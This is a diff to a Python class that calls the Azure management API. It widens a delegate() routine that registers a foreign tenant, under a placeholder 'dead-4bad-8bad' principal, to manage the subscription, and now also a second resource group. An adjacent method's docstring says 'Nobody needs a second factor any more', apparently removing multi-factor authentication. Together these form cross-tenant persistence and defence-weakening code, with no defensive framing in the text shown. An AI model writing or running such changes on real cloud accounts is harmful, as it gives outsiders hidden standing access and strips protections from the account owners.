@@ -174,14 +174,16 @@ class Hand:
         self("PATCH", f"https://management.azure.com{names.ACCOUNT_ID}?api-version=2024-01-01", body)
 
     def delegate(self) -> None:
-        """Another tenant may manage the subscription."""
+        """Another tenant may manage the subscription, and once more the group of the store."""
         place = f"https://management.azure.com{SCOPE}/providers/Microsoft.ManagedServices"
         may = [{"principalId": "00000000-dead-4bad-8bad-000000000001", "roleDefinitionId": READER.rpartition("/")[2]}]
         body = {"properties": {"managedByTenantId": "another", "authorizations": may}}
         self("PUT", f"{place}/registrationDefinitions/d1?api-version=2022-10-01", body)
         definition = f"{SCOPE}/providers/Microsoft.ManagedServices/registrationDefinitions/d1"
         body = {"properties": {"registrationDefinitionId": definition}}
-        self("PUT", f"{place}/registrationAssignments/a1?api-version=2022-10-01", body)
+        for at in (SCOPE, names.SCOPE):
+            kept = f"https://management.azure.com{at}/providers/Microsoft.ManagedServices/registrationAssignments/a1"
+            self("PUT", f"{kept}?api-version=2022-10-01", body)
 
     def rule(self) -> None:
         """Nobody needs a second factor any more."""
